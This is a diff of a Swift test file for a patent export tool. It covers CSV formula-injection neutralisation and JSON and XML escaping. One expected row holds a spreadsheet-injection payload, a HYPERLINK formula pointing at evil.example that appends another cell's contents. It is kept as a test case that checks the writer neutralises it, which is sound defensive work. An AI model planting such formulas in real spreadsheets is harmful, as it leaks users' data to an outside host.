@@ -88,12 +88,24 @@ func write(_ type: ExportType, _ codes: String, _ records: [ExportRecord], langu
         let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
         let row = text.components(separatedBy: "\r\n")[1]
         #expect(row == #"US1234567B1,"'=HYPERLINK(""http://evil.example/?""&B2,""click"")",'+1 Smith | Jones,'@SUM(A1),'－1 full-width minus,'\#tH01M"#)
-        for start in ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"] {
-            #expect(CSVExportWriter.neutralised(start + "1") == "'" + start + "1")
+        for start in ["=", "+", "-", "@", "\t", "＝", "＋", "－", "＠"] {
+            #expect(Self.cell([start + "1"]) == "'" + start + "1")
         }
-        #expect(CSVExportWriter.neutralised("A battery") == "A battery")
-        #expect(CSVExportWriter.neutralised("") == "")
-        #expect(CSVExportWriter.neutralised("1-2") == "1-2")
+        #expect(Self.cell(["\r1"]) == "\"'\r1\"")
+        #expect(Self.cell(["A battery"]) == "A battery")
+        #expect(Self.cell([""]) == "")
+        #expect(Self.cell(["1-2"]) == "1-2")
+        #expect(Self.cell(["", "=1"]) == " | =1")
+        #expect(Self.cell(["＝\u{301}1"]) == "'＝\u{301}1")
+        #expect(Self.cell(["＞1"]) == "＞1")
+        #expect(Self.cell(["a\"\u{301}b"]) == "\"a\"\"\u{301}b\"")
+    }
+
+    /// A CSV cell as the writer writes it.
+    static func cell(_ values: [String]) -> String {
+        var out: [UInt8] = [], scratch: [UInt8] = []
+        CSVExportWriter.append(cell: values, to: &out, scratch: &scratch)
+        return String(decoding: out, as: UTF8.self)
     }
 
     @Test func csvWithoutRowsIsTheHeader() throws {
@@ -123,5 +135,32 @@ func write(_ type: ExportType, _ codes: String, _ records: [ExportRecord], langu
         #expect(text.contains("<patent><PN>CN110000001A</PN><ISD/><AN><value>ACME &lt;Batteries&gt; &amp; Co</value><value>BetaCorp</value></AN></patent>"))
         let document = try XMLDocument(data: Data(bytes))
         #expect(try document.nodes(forXPath: "/patents/patent/AN/value").count == 2)
+    }
+}
+
+@Suite struct TextBytesTests {
+    @Test func decimalsAreWrittenAsSwiftPrintsThem() {
+        for value in [0, 7, 9, 10, 99, 100, 43_467, -5, -10, Int.max, Int.min, Int.max - 1, 1_000_000_000_000_000_000] {
+            var out: [UInt8] = [UInt8(ascii: "x")]
+            out.append(decimal: value)
+            #expect(String(decoding: out, as: UTF8.self) == "x\(value)")
+        }
+    }
+
+    @Test func jsonStringsEscapeQuotesBackslashesAndControls() throws {
+        let text = "a\"b\\c\nd\re\tf\u{1}g\u{1F}h電池\u{7F}"
+        var out: [UInt8] = []
+        out.append(jsonString: text)
+        #expect(String(decoding: out, as: UTF8.self) == #""a\"b\\c\nd\re\tf\u0001g\u001fh電池"# + "\u{7F}\"")
+        // And it parses back to the same text.
+        let parsed = try JSONSerialization.jsonObject(with: Data(out), options: .fragmentsAllowed) as? String
+        #expect(parsed == text)
+    }
+
+    @Test func xmlEscapingDropsWhatXMLForbidsAndKeepsTheRest() {
+        #expect(XMLText.escaped("a&b<c>d\"e'f") == "a&amp;b&lt;c&gt;d&quot;e&apos;f")
+        #expect(XMLText.escaped("x\u{1}y\u{FFFE}z\u{FFFF}\u{FFFD}\t\n\r电") == "xyz\u{FFFD}\t\n\r电")
+        #expect(XMLText.escaped("\u{EFBF}") == "\u{EFBF}")
+        #expect(XMLText.escaped("") == "")
     }
 }
